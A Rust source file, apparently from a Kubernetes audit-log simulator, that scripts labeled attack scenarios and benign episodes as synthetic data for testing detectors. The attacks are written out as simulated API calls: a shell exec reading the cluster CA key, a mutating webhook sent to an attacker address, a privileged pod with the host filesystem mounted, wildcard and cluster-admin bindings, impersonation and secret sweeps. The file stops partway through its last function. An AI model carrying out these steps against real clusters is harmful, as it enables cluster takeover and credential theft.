//! Labeled attacks and benign rarities.
//!
//! A scenario is a function that, given a start time, schedules the calls of
//! one attack (or one rare-but-benign episode) and tags every one with its
//! label, so `labels.jsonl` lists every audit ID the scenario produced. Calls
//! are authorized when simulated time reaches them, so a binding a scenario
//! creates really grants its later calls. Attack calls never grow the derived
//! roles of the identities they abuse.
//!
//! To add a scenario: write a `fn name(engine, ts, label)` here, add it to
//! [`ATTACKS`] (or [`BENIGN`]) with its severity and description, and, if it
//! must happen at a particular hour, give it a placement in `place`.

use super::cluster::{HumanRole, Part, rc};
use super::engine::{Call, Engine, MICROS_PER_SECOND, RbacEffect};
use super::json;
use super::rbac::{Binding, PolicyRule, Role, Subject};
use super::resources as r;
use rand::Rng;
use serde_json::json;
use std::rc::Rc;

const MINUTE: i64 = 60 * MICROS_PER_SECOND;
const HOUR: i64 = 60 * MINUTE;

/// When a scenario runs, relative to the simulated day.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Placement {
    Anytime,
    /// Between 01:00 and 04:30 in the actor's (or company's) local time.
    Night,
    /// Business hours on a weekday, company time (UTC+1).
    BusinessHours,
}

type ScenarioFn = fn(&mut Engine, i64, &'static str, &'static str) -> Option<usize>;

pub(crate) struct Scenario {
    pub name: &'static str,
    pub severity: &'static str,
    pub placement: Placement,
    pub run: ScenarioFn,
}

/// The attack scenarios, in the order `--attacks all` runs them.
pub(crate) const ATTACKS: &[Scenario] = &[
    Scenario {
        name: "stolen-token",
        severity: "high",
        placement: Placement::Anytime,
        run: stolen_token,
    },
    Scenario {
        name: "night-namespaces",
        severity: "medium",
        placement: Placement::Night,
        run: night_namespaces,
    },
    Scenario {
        name: "wildcard-clusterrole",
        severity: "critical",
        placement: Placement::Anytime,
        run: wildcard_cluster_role,
    },
    Scenario {
        name: "cluster-admin-binding",
        severity: "critical",
        placement: Placement::Anytime,
        run: cluster_admin_binding,
    },
    Scenario {
        name: "webhook-tampering",
        severity: "critical",
        placement: Placement::Anytime,
        run: webhook_tampering,
    },
    Scenario {
        name: "forbidden-burst",
        severity: "medium",
        placement: Placement::Anytime,
        run: forbidden_burst,
    },
    Scenario {
        name: "exec-kube-system",
        severity: "high",
        placement: Placement::Anytime,
        run: exec_kube_system,
    },
    Scenario {
        name: "privileged-pod",
        severity: "critical",
        placement: Placement::Anytime,
        run: privileged_pod,
    },
    Scenario {
        name: "impersonation",
        severity: "critical",
        placement: Placement::Anytime,
        run: impersonation,
    },
    Scenario {
        name: "node-proxy",
        severity: "high",
        placement: Placement::Anytime,
        run: node_proxy,
    },
    Scenario {
        name: "csr-approve",
        severity: "critical",
        placement: Placement::Anytime,
        run: csr_approve,
    },
    Scenario {
        name: "secret-sweep",
        severity: "high",
        placement: Placement::Anytime,
        run: secret_sweep,
    },
    Scenario {
        name: "anonymous-allowed",
        severity: "critical",
        placement: Placement::Anytime,
        run: anonymous_allowed,
    },
    Scenario {
        name: "token-request",
        severity: "critical",
        placement: Placement::Anytime,
        run: token_request,
    },
    Scenario {
        name: "events-deleted",
        severity: "high",
        placement: Placement::Anytime,
        run: events_deleted,
    },
    Scenario {
        name: "critical-config",
        severity: "high",
        placement: Placement::Night,
        run: critical_config,
    },
];

/// Rare but benign episodes, written to `benign.jsonl`.
pub(crate) const BENIGN: &[Scenario] = &[
    Scenario {
        name: "oncall-night",
        severity: "info",
        placement: Placement::Night,
        run: on_call_night,
    },
    Scenario {
        name: "namespace-adoption",
        severity: "info",
        placement: Placement::BusinessHours,
        run: namespace_adoption,
    },
    Scenario {
        name: "role-change",
        severity: "info",
        placement: Placement::BusinessHours,
        run: role_change,
    },
    Scenario {
        name: "kubelet-certificate-rotation",
        severity: "info",
        placement: Placement::Anytime,
        run: kubelet_certificate_rotation,
    },
    Scenario {
        name: "certificate-renewal",
        severity: "info",
        placement: Placement::Anytime,
        run: certificate_renewal,
    },
];

pub(crate) fn scenario_names() -> Vec<&'static str> {
    ATTACKS.iter().map(|scenario| scenario.name).collect()
}

const EXTERNAL_NETWORKS: &[&str] = &[
    "185.220.101",
    "45.142.212",
    "91.92.240",
    "193.3.19",
    "104.244.72",
];

fn external_ip(engine: &mut Engine) -> Rc<str> {
    let network = EXTERNAL_NETWORKS[engine.rng.random_range(0..EXTERNAL_NETWORKS.len())];
    rc(&format!("{network}.{}", engine.rng.random_range(2..254)))
}

fn platform_admins(engine: &Engine) -> Vec<usize> {
    engine
        .cluster
        .humans
        .iter()
        .enumerate()
        .filter(|(_, human)| human.role == HumanRole::PlatformAdmin)
        .map(|(index, _)| index)
        .collect()
}

/// Someone who can do anything: a platform admin's session, or Argo CD's
/// token; from outside half of the time.
fn powerful_actor(engine: &mut Engine) -> (usize, Rc<str>, Option<Rc<str>>) {
    let admins = platform_admins(engine);
    if !admins.is_empty() && engine.rng.random_range(0..2) == 0 {
        let human = admins[engine.rng.random_range(0..admins.len())];
        let identity = engine.cluster.humans[human].identity;
        let ip = if engine.rng.random_range(0..2) == 0 {
            external_ip(engine)
        } else {
            let vpn = &engine.cluster.humans[human].vpn_ips;
            vpn[engine.rng.random_range(0..vpn.len())].clone()
        };
        (identity, ip, None)
    } else {
        let identity = engine.cluster.known.argocd;
        (
            identity,
            external_ip(engine),
            Some(rc("kubectl/v1.30.2 (linux/amd64) kubernetes/3968350")),
        )
    }
}

struct Script<'a> {
    engine: &'a mut Engine,
    at: i64,
    label: usize,
    ip: Rc<str>,
    agent: Option<Rc<str>>,
}

impl Script<'_> {
    /// Schedules `call` after a pause drawn from `pause` (milliseconds).
    fn then(&mut self, pause_ms: std::ops::Range<i64>, mut call: Call) -> &mut Self {
        self.at += self.engine.rng.random_range(pause_ms) * 1000;
        if call.source_ip.is_none() {
            call = call.via_ip(&self.ip);
        }
        call = call.labeled(Some(self.label));
        if call.user_agent.is_none() {
            call.user_agent = self.agent.clone();
        }
        self.engine.schedule(self.at, call);
        self
    }
}

#[allow(clippy::too_many_arguments)]
fn begin<'a>(
    engine: &'a mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
    actor: usize,
    description: String,
    benign: bool,
    ip: Rc<str>,
    agent: Option<Rc<str>>,
) -> Script<'a> {
    let username = engine.cluster.identities[actor].username.clone();
    let label = engine.new_label(scenario, &username, severity, description, benign);
    Script {
        engine,
        at: ts,
        label,
        ip,
        agent,
    }
}

fn new_identity(
    engine: &mut Engine,
    username: &str,
    namespace: &str,
    ip: Rc<str>,
    agent: &str,
) -> usize {
    if let Some(existing) = engine.cluster.identity_index(username) {
        return existing;
    }
    let groups = vec![
        "system:serviceaccounts".to_string(),
        format!("system:serviceaccounts:{namespace}"),
        "system:authenticated".to_string(),
    ];
    let uid = json::uuid_string(&mut engine.rng);
    let user_json = format!(
        "{{\"username\":{},\"uid\":{},\"groups\":[{}]}}",
        json::quoted(username),
        json::quoted(&uid),
        groups
            .iter()
            .map(|group| json::quoted(group))
            .collect::<Vec<_>>()
            .join(",")
    );
    let impersonated_json = format!(
        "{{\"username\":{},\"groups\":[{}]}}",
        json::quoted(username),
        groups
            .iter()
            .map(|group| json::quoted(group))
            .collect::<Vec<_>>()
            .join(",")
    );
    engine.cluster.identities.push(super::cluster::Identity {
        username: username.to_string(),
        groups,
        user_json,
        impersonated_json,
        user_agent: rc(agent),
        source_ips: vec![ip],
        human: false,
        part: Part::Other,
        derived_role: None,
    });
    engine.cluster.identities.len() - 1
}

fn created_role(
    engine: &mut Engine,
    namespace: Option<&str>,
    name: &str,
    rules: Vec<PolicyRule>,
    ts: i64,
) -> Role {
    let uid = json::uuid_string(&mut engine.rng);
    let version = engine.next_resource_version();
    Role {
        namespace: namespace.map(str::to_string),
        name: name.to_string(),
        rules,
        bootstrap: false,
        created: ts,
        uid,
        resource_version: version,
    }
}

fn created_binding(
    engine: &mut Engine,
    namespace: Option<&str>,
    name: &str,
    role_kind: &str,
    role_name: &str,
    subject: Subject,
    ts: i64,
) -> Binding {
    let uid = json::uuid_string(&mut engine.rng);
    let version = engine.next_resource_version();
    Binding {
        namespace: namespace.map(str::to_string),
        name: name.to_string(),
        role_kind: role_kind.to_string(),
        role_name: role_name.to_string(),
        subjects: vec![subject],
        bootstrap: false,
        created: ts,
        uid,
        resource_version: version,
    }
}

/// The create call for a role, with its objects and effect.
fn create_role_call(actor: usize, role: Role) -> Call {
    let resource = if role.namespace.is_some() {
        r::ROLES
    } else {
        r::CLUSTERROLES
    };
    let response = super::rbac::RbacState::role_json(&role);
    let mut request = response.clone();
    if let Some(metadata) = request
        .get_mut("metadata")
        .and_then(serde_json::Value::as_object_mut)
    {
        metadata.retain(|key, _| key == "name" || key == "namespace");
        metadata.insert("creationTimestamp".into(), serde_json::Value::Null);
    }
    let mut call = Call::resource(actor, "create", resource).objects(Some(request), Some(response));
    if let Some(namespace) = &role.namespace {
        call = call.namespace(&rc(namespace));
    }
    call.rbac_effect = Some(RbacEffect::PutRole(role));
    call
}

fn create_binding_call(actor: usize, binding: Binding) -> Call {
    let resource = if binding.namespace.is_some() {
        r::ROLEBINDINGS
    } else {
        r::CLUSTERROLEBINDINGS
    };
    let response = super::rbac::RbacState::binding_json(&binding);
    let mut request = response.clone();
    if let Some(metadata) = request
        .get_mut("metadata")
        .and_then(serde_json::Value::as_object_mut)
    {
        metadata.retain(|key, _| key == "name" || key == "namespace");
        metadata.insert("creationTimestamp".into(), serde_json::Value::Null);
    }
    let mut call = Call::resource(actor, "create", resource).objects(Some(request), Some(response));
    if let Some(namespace) = &binding.namespace {
        call = call.namespace(&rc(namespace));
    }
    call.rbac_effect = Some(RbacEffect::PutBinding(binding));
    call
}

fn stolen_token(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let app_index = engine
        .rng
        .random_range(0..engine.cluster.applications.len());
    let app = &engine.cluster.applications[app_index];
    let (actor, namespace, name) = (app.identity, app.namespace.clone(), app.name.clone());
    let ip = external_ip(engine);
    let agent = if engine.rng.random_range(0..2) == 0 {
        "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
    } else {
        "curl/8.5.0"
    };
    let description = format!("service account token of {name} used from external address {ip}");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        Some(rc(agent)),
    );
    script
        .then(
            0..1,
            Call::resource(actor, "create", r::SELFSUBJECTRULESREVIEWS),
        )
        .then(
            2_000..8_000,
            Call::resource(actor, "get", r::SECRETS)
                .namespace(&namespace)
                .name(format!("{name}-credentials")),
        )
        .then(
            1_000..5_000,
            Call::resource(actor, "list", r::SECRETS).namespace(&namespace),
        )
        .then(
            1_000..5_000,
            Call::resource(actor, "list", r::PODS).namespace(&namespace),
        )
        .then(
            1_000..5_000,
            Call::resource(actor, "get", r::CONFIGMAPS)
                .namespace(&namespace)
                .name(format!("{name}-config")),
        )
        .then(1_000..5_000, Call::resource(actor, "list", r::NAMESPACES));
    Some(script.label)
}

fn night_namespaces(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let candidates: Vec<usize> = engine
        .cluster
        .humans
        .iter()
        .enumerate()
        .filter(|(_, human)| human.role == HumanRole::SiteReliability)
        .map(|(index, _)| index)
        .collect();
    let human = *candidates.get(engine.rng.random_range(0..candidates.len().max(1)))?;
    let actor = engine.cluster.humans[human].identity;
    let usual = engine.cluster.humans[human].namespaces.clone();
    let unusual: Vec<Rc<str>> = engine
        .cluster
        .all_namespaces
        .iter()
        .filter(|namespace| !usual.contains(namespace))
        .cloned()
        .collect();
    let ip = rc(&format!(
        "81.2.{}.{}",
        engine.rng.random_range(0..255),
        engine.rng.random_range(2..254)
    ));
    let description = format!(
        "{} reads {} namespaces never used before, at night, from {ip}",
        engine.cluster.identities[actor].username,
        unusual.len().min(6)
    );
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        None,
    );
    for namespace in unusual.iter().take(6) {
        script
            .then(
                20_000..90_000,
                Call::resource(actor, "list", r::PODS)
                    .namespace(namespace)
                    .query("?limit=500"),
            )
            .then(
                5_000..30_000,
                Call::resource(actor, "list", r::CONFIGMAPS)
                    .namespace(namespace)
                    .query("?limit=500"),
            )
            .then(
                5_000..30_000,
                Call::resource(actor, "list", r::SECRETS)
                    .namespace(namespace)
                    .query("?limit=500"),
            );
    }
    Some(script.label)
}

fn wildcard_cluster_role(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let (actor, ip, agent) = powerful_actor(engine);
    let role_name = format!(
        "system:aggregate-ops-{}",
        json::name_suffix(&mut engine.rng, 4)
    );
    let backdoor = new_identity(
        engine,
        "system:serviceaccount:default:default",
        "default",
        ip.clone(),
        "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
    );
    let role = created_role(
        engine,
        None,
        &role_name,
        vec![PolicyRule::resources(&["*"], &["*"], &["*"])],
        ts,
    );
    let binding = created_binding(
        engine,
        None,
        &role_name,
        "ClusterRole",
        &role_name,
        Subject::service_account("default", "default"),
        ts,
    );
    let description =
        format!("wildcard ClusterRole {role_name} created and bound to default/default");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        agent,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "list", r::CLUSTERROLES).query("?limit=500"),
        )
        .then(5_000..40_000, create_role_call(actor, role))
        .then(2_000..20_000, create_binding_call(actor, binding))
        .then(
            30_000..300_000,
            Call::resource(backdoor, "list", r::SECRETS).query("?limit=500"),
        )
        .then(
            3_000..20_000,
            Call::resource(backdoor, "list", r::NODES).query("?limit=500"),
        );
    Some(script.label)
}

fn cluster_admin_binding(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let (actor, ip, agent) = powerful_actor(engine);
    let account = format!(
        "node-problem-monitor-{}",
        json::name_suffix(&mut engine.rng, 3)
    );
    let binding = created_binding(
        engine,
        None,
        &format!("{account}-admin"),
        "ClusterRole",
        "cluster-admin",
        Subject::service_account("kube-system", &account),
        ts,
    );
    let description = format!(
        "new service account kube-system/{account} bound to cluster-admin and a token minted for it"
    );
    let kube_system = rc("kube-system");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        agent,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "create", r::SERVICEACCOUNTS).namespace(&kube_system),
        )
        .then(5_000..30_000, create_binding_call(actor, binding))
        .then(
            5_000..30_000,
            Call::resource(actor, "create", r::SERVICEACCOUNTS)
                .namespace(&kube_system)
                .name(account)
                .subresource("token"),
        );
    Some(script.label)
}

fn webhook_tampering(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let (actor, ip, agent) = powerful_actor(engine);
    let exfiltrate = engine.rng.random_range(0..2) == 0;
    let version = engine.next_resource_version();
    let attacker_ip = external_ip(engine);
    let description = if exfiltrate {
        format!("mutating webhook for all pods pointing at https://{attacker_ip}:8443")
    } else {
        "validating webhook ingress-nginx-admission switched to failurePolicy Ignore with no rules"
            .to_string()
    };
    let call = if exfiltrate {
        let object = json!({
            "kind": "MutatingWebhookConfiguration",
            "apiVersion": "admissionregistration.k8s.io/v1",
            "metadata": {"name": "pod-policy.example.io", "resourceVersion": version.to_string()},
            "webhooks": [{"name": "pod-policy.example.io", "clientConfig": {"url": format!("https://{attacker_ip}:8443/mutate")},
                "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"], "scope": "*"}],
                "failurePolicy": "Ignore", "sideEffects": "None", "timeoutSeconds": 5, "admissionReviewVersions": ["v1"]}]
        });
        Call::resource(actor, "create", r::MUTATINGWEBHOOKCONFIGURATIONS)
            .objects(Some(object.clone()), Some(object))
    } else {
        let patch = json!({"webhooks": [{"name": "validate.nginx.ingress.kubernetes.io", "failurePolicy": "Ignore", "rules": []}]});
        let object = json!({
            "kind": "ValidatingWebhookConfiguration",
            "apiVersion": "admissionregistration.k8s.io/v1",
            "metadata": {"name": "ingress-nginx-admission", "resourceVersion": version.to_string()},
            "webhooks": [{"name": "validate.nginx.ingress.kubernetes.io", "clientConfig": {"service": {"namespace": "ingress-nginx", "name": "ingress-nginx-controller-admission", "path": "/networking/v1/ingresses", "port": 443}},
                "rules": [], "failurePolicy": "Ignore", "matchPolicy": "Equivalent", "sideEffects": "None", "timeoutSeconds": 10, "admissionReviewVersions": ["v1"]}]
        });
        Call::resource(actor, "patch", r::VALIDATINGWEBHOOKCONFIGURATIONS)
            .name("ingress-nginx-admission")
            .objects(Some(patch), Some(object))
    };
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        agent,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "list", r::VALIDATINGWEBHOOKCONFIGURATIONS).query("?limit=500"),
        )
        .then(
            3_000..30_000,
            Call::resource(actor, "list", r::MUTATINGWEBHOOKCONFIGURATIONS).query("?limit=500"),
        )
        .then(10_000..120_000, call);
    Some(script.label)
}

fn forbidden_burst(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let app = &engine.cluster.applications[engine
        .rng
        .random_range(0..engine.cluster.applications.len())];
    let (actor, ip) = (app.identity, app_pod_ip(engine, app.identity));
    let namespaces = engine.cluster.all_namespaces.clone();
    let description = format!(
        "{} enumerates permissions: a burst of forbidden requests",
        engine.cluster.identities[actor].username
    );
    let agent = rc("kubectl/v1.30.2 (linux/amd64) kubernetes/3968350");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        Some(agent),
    );
    script.then(
        0..1,
        Call::resource(actor, "create", r::SELFSUBJECTRULESREVIEWS),
    );
    let probes = script.engine.rng.random_range(40..90);
    for _ in 0..probes {
        let namespace = namespaces[script.engine.rng.random_range(0..namespaces.len())].clone();
        let call = match script.engine.rng.random_range(0..9) {
            0 => Call::resource(actor, "list", r::SECRETS).namespace(&namespace),
            1 => Call::resource(actor, "list", r::SECRETS),
            2 => Call::resource(actor, "list", r::PODS).namespace(&namespace),
            3 => Call::resource(actor, "list", r::CLUSTERROLES),
            4 => Call::resource(actor, "list", r::NODES),
            5 => Call::resource(actor, "create", r::PODS).namespace(&namespace),
            6 => Call::resource(actor, "list", r::SERVICEACCOUNTS).namespace(&namespace),
            7 => Call::resource(actor, "create", r::CLUSTERROLEBINDINGS),
            _ => Call::resource(actor, "list", r::DEPLOYMENTS).namespace(&namespace),
        };
        script.then(200..2_500, call);
    }
    Some(script.label)
}

fn app_pod_ip(engine: &mut Engine, identity: usize) -> Rc<str> {
    let ips = &engine.cluster.identities[identity].source_ips;
    ips[engine.rng.random_range(0..ips.len())].clone()
}

fn exec_kube_system(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let (actor, ip, agent) = powerful_actor(engine);
    let targets = [
        "etcd-cp-1",
        "kube-apiserver-cp-1",
        "coredns-7db6d8ff4d-4kx2p",
        "kube-proxy-8xk2f",
    ];
    let pod = targets[engine.rng.random_range(0..targets.len())];
    let kube_system = rc("kube-system");
    let description = format!("exec into kube-system/{pod}");
    let duration = engine.rng.random_range(60..900) * MICROS_PER_SECOND;
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        agent,
    );
    script
        .then(0..1, Call::resource(actor, "list", r::PODS).namespace(&kube_system).query("?limit=500"))
        .then(5_000..40_000, Call::resource(actor, "get", r::PODS).namespace(&kube_system).name(pod))
        .then(
            1_000..5_000,
            Call::resource(actor, "create", r::PODS)
                .namespace(&kube_system)
                .name(pod)
                .subresource("exec")
                .query("?command=sh&command=-c&command=cat+%2Fetc%2Fkubernetes%2Fpki%2Fca.key&container=main&stdout=true&stderr=true")
                .lasting(duration),
        );
    Some(script.label)
}

fn privileged_pod(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let developers: Vec<usize> = engine
        .cluster
        .humans
        .iter()
        .enumerate()
        .filter(|(_, human)| human.role == HumanRole::Developer)
        .map(|(index, _)| index)
        .collect();
    let human = *developers.get(engine.rng.random_range(0..developers.len().max(1)))?;
    let actor = engine.cluster.humans[human].identity;
    let namespace = engine.cluster.humans[human].namespaces[0].clone();
    let node = engine.cluster.nodes[engine.rng.random_range(0..engine.cluster.nodes.len())]
        .name
        .clone();
    let pod = format!("debug-{}", json::name_suffix(&mut engine.rng, 5));
    let uid = json::uuid_string(&mut engine.rng);
    let version = engine.next_resource_version();
    let spec = json!({
        "hostPID": true, "hostNetwork": true, "nodeName": node,
        "containers": [{"name": "debug", "image": "alpine:3.20", "command": ["sleep", "infinity"],
            "securityContext": {"privileged": true},
            "volumeMounts": [{"name": "host", "mountPath": "/host"}],
            "resources": {}, "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}],
        "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
        "restartPolicy": "Never", "dnsPolicy": "ClusterFirst", "securityContext": {}, "schedulerName": "default-scheduler"
    });
    let request = json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": pod, "namespace": &*namespace, "creationTimestamp": null, "labels": {"run": pod}}, "spec": spec, "status": {}});
    let mut response = request.clone();
    if let Some(metadata) = response
        .get_mut("metadata")
        .and_then(serde_json::Value::as_object_mut)
    {
        metadata.insert("uid".into(), json!(uid));
        metadata.insert("resourceVersion".into(), json!(version.to_string()));
        metadata.insert("creationTimestamp".into(), json!(json::rfc3339_seconds(ts)));
    }
    let ip = engine.cluster.humans[human].vpn_ips[0].clone();
    let description = format!(
        "privileged pod {namespace}/{pod} with hostPID, hostNetwork and the node's / mounted"
    );
    let mut create = Call::resource(actor, "create", r::PODS)
        .namespace(&namespace)
        .query("?fieldManager=kubectl-run")
        .objects(Some(request), Some(response));
    create.extra_annotations =
        Some(",\"pod-security.kubernetes.io/enforce-policy\":\"privileged:latest\"");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        None,
    );
    script
        .then(0..1, create)
        .then(
            8_000..30_000,
            Call::resource(actor, "get", r::PODS)
                .namespace(&namespace)
                .name(pod.clone()),
        )
        .then(
            2_000..10_000,
            Call::resource(actor, "create", r::PODS)
                .namespace(&namespace)
                .name(pod)
                .subresource("attach")
                .query("?container=debug&stdin=true&stdout=true&tty=true")
                .lasting(5 * MINUTE),
        );
    Some(script.label)
}

fn impersonation(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let actor = engine
        .cluster
        .identities
        .iter()
        .position(|identity| identity.groups.iter().any(|group| group == "support"))?;
    let admins = platform_admins(engine);
    let target = engine.cluster.humans[*admins.first()?].identity;
    let human = match engine.cluster.identities[actor].part {
        Part::Human { human } => human,
        _ => return None,
    };
    let ip = engine.cluster.humans[human].office_ips[0].clone();
    let description = format!(
        "{} impersonates platform admin {}",
        engine.cluster.identities[actor].username, engine.cluster.identities[target].username
    );
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        None,
    );
    let as_admin = |call: Call| {
        let mut call = call;
        call.impersonate = Some(target);
        call
    };
    let calls = vec![
        as_admin(Call::resource(actor, "list", r::SECRETS).query("?limit=500")),
        as_admin(Call::resource(actor, "list", r::CLUSTERROLEBINDINGS).query("?limit=500")),
        as_admin(
            Call::resource(actor, "get", r::SECRETS)
                .namespace(&rc("argocd"))
                .name("argocd-initial-admin-secret"),
        ),
        as_admin(
            Call::resource(actor, "get", r::SECRETS)
                .namespace(&rc("kube-system"))
                .name("bootstrap-token-abcdef"),
        ),
    ];
    for call in calls {
        script.then(3_000..60_000, call);
    }
    Some(script.label)
}

fn node_proxy(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let actor = engine.cluster.known.prometheus;
    let ip = external_ip(engine);
    let nodes: Vec<String> = engine
        .cluster
        .nodes
        .iter()
        .map(|node| node.name.clone())
        .collect();
    let description =
        "monitoring token used from outside to reach kubelets through nodes/proxy".to_string();
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        Some(rc("curl/8.5.0")),
    );
    for node in nodes.iter().take(4) {
        let suffix =
            ["/pods", "/configz", "/runningpods/", "/spec/"][script.engine.rng.random_range(0..4)];
        script.then(
            2_000..20_000,
            Call::resource(actor, "get", r::NODES)
                .name(node.clone())
                .subresource("proxy")
                .query(suffix),
        );
    }
    Some(script.label)
}

fn csr_approve(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let (actor, ip, agent) = powerful_actor(engine);
    let name = format!("csr-{}", json::name_suffix(&mut engine.rng, 5));
    let pem = format!(
        "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ{}",
        json::name_suffix(&mut engine.rng, 40)
    );
    let spec = json!({"request": pem, "signerName": "kubernetes.io/kube-apiserver-client", "expirationSeconds": 31536000, "usages": ["client auth"]});
    let object = json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": name}, "spec": spec});
    let approved = json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": name}, "spec": spec,
        "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "This CSR was approved by kubectl certificate approve."}]}});
    let description = format!(
        "client certificate request {name} (O=system:masters) created and approved by its requester"
    );
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        agent,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "create", r::CERTIFICATESIGNINGREQUESTS)
                .objects(Some(object.clone()), Some(object)),
        )
        .then(
            5_000..60_000,
            Call::resource(actor, "update", r::CERTIFICATESIGNINGREQUESTS)
                .name(name.clone())
                .subresource("approval")
                .objects(Some(approved.clone()), Some(approved)),
        )
        .then(
            2_000..20_000,
            Call::resource(actor, "get", r::CERTIFICATESIGNINGREQUESTS).name(name),
        );
    Some(script.label)
}

fn secret_sweep(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let admins = platform_admins(engine);
    let (actor, ip) = if !admins.is_empty() && engine.rng.random_range(0..2) == 0 {
        let human = &engine.cluster.humans[admins[engine.rng.random_range(0..admins.len())]];
        (human.identity, human.vpn_ips[0].clone())
    } else {
        let argocd = engine.cluster.known.argocd;
        (argocd, app_pod_ip(engine, argocd))
    };
    let mut targets: Vec<(Rc<str>, String)> = engine
        .cluster
        .applications
        .iter()
        .map(|app| (app.namespace.clone(), format!("{}-credentials", app.name)))
        .collect();
    targets.push((rc("argocd"), "argocd-secret".into()));
    targets.push((rc("monitoring"), "grafana-admin".into()));
    targets.push((rc("cert-manager"), "cert-manager-webhook-ca".into()));
    targets.push((rc("ingress-nginx"), "ingress-nginx-admission".into()));
    let description = format!(
        "low-and-slow reads of {} secrets across namespaces over hours",
        targets.len()
    );
    let agent = rc("Go-http-client/2.0");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        Some(agent),
    );
    for (namespace, name) in targets {
        script.then(
            8 * 60_000..40 * 60_000,
            Call::resource(actor, "get", r::SECRETS)
                .namespace(&namespace)
                .name(name),
        );
    }
    Some(script.label)
}

fn anonymous_allowed(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let actor = engine.cluster.known.anonymous;
    let ip = external_ip(engine);
    let description =
        "anonymous requests from outside allowed by a legacy binding of view to system:anonymous"
            .to_string();
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        Some(rc("python-requests/2.31.0")),
    );
    script
        .then(0..1, Call::path(actor, "/version"))
        .then(1_000..5_000, Call::resource(actor, "list", r::NAMESPACES))
        .then(1_000..5_000, Call::resource(actor, "list", r::PODS))
        .then(
            1_000..5_000,
            Call::resource(actor, "get", r::CONFIGMAPS)
                .namespace(&rc("kube-system"))
                .name("kubeadm-config"),
        )
        .then(1_000..5_000, Call::resource(actor, "list", r::SECRETS));
    Some(script.label)
}

fn token_request(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let admins = platform_admins(engine);
    let human = *admins.get(engine.rng.random_range(0..admins.len().max(1)))?;
    let actor = engine.cluster.humans[human].identity;
    let ip = external_ip(engine);
    let argocd = engine.cluster.known.argocd;
    let description =
        "token minted for argocd-application-controller (cluster-wide *) and used from outside"
            .to_string();
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        None,
    );
    let token = Call::resource(actor, "create", r::SERVICEACCOUNTS)
        .namespace(&rc("argocd"))
        .name("argocd-application-controller")
        .subresource("token");
    let agent = rc("kubectl/v1.30.2 (linux/amd64) kubernetes/3968350");
    script
        .then(0..1, token)
        .then(
            60_000..600_000,
            Call::resource(argocd, "list", r::SECRETS)
                .query("?limit=500")
                .agent(&agent),
        )
        .then(
            2_000..20_000,
            Call::resource(argocd, "list", r::CLUSTERROLEBINDINGS)
                .query("?limit=500")
                .agent(&agent),
        );
    Some(script.label)
}

fn events_deleted(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let (actor, ip, agent) = powerful_actor(engine);
    let app = &engine.cluster.applications[engine
